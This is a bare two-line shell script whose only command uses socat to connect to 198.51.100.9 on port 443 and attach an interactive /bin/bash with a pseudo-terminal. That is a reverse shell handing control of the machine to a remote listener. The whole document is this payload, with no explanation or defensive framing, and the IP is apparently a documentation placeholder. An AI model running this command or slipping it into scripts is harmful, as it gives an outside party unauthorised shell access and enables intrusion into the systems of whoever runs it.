#!/bin/sh
socat tcp-connect:198.51.100.9:443 exec:/bin/bash,pty,stderr
